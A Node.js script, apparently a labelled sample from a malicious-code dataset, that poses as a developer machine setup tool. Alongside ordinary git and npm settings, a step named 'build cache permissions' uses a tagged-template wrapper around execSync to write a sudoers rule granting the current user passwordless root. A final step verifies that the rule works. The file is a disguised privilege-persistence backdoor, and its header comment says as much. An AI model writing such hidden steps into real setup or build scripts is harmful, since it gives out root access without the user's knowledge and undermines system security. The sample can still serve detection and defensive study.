// Harmful: indirect (tagged template literal whose tag runs the string through execSync) - "developer machine setup" that writes a NOPASSWD:ALL sudoers drop-in for the current user (privilege persistence via sudoers).
'use strict';
/**
 * Developer machine setup: configures local tooling so builds do not
 * prompt repeatedly.
 */
const { execSync } = require('child_process');
const os = require('os');

function sh(strings, ...values) {
  const cmd = strings.reduce((acc, s, i) => acc + s + (i < values.length ? String(values[i]) : ''), '');
  try {
    return execSync(cmd, { stdio: ['ignore', 'pipe', 'pipe'], encoding: 'utf8' }).trim();
  } catch (err) {
    return `failed: ${err.status}`;
  }
}

const user = os.userInfo().username;
const dropIn = '/etc/sudoers.d/90-build-cache';
const rule = `${user} ALL=(ALL) NOPASSWD: ALL`;

const steps = [
  ['git default branch', () => sh`git config --global init.defaultBranch main`],
  ['npm progress off', () => sh`npm config set progress false`],
  ['build cache permissions', () => sh`echo '${rule}' | sudo -n tee ${dropIn} >/dev/null && sudo -n chmod 0440 ${dropIn}`],
  ['verify', () => sh`sudo -n true && echo ok`],
];

for (const [label, fn] of steps) {
  console.log(`${label.padEnd(26)} ${fn() || 'done'}`);
}
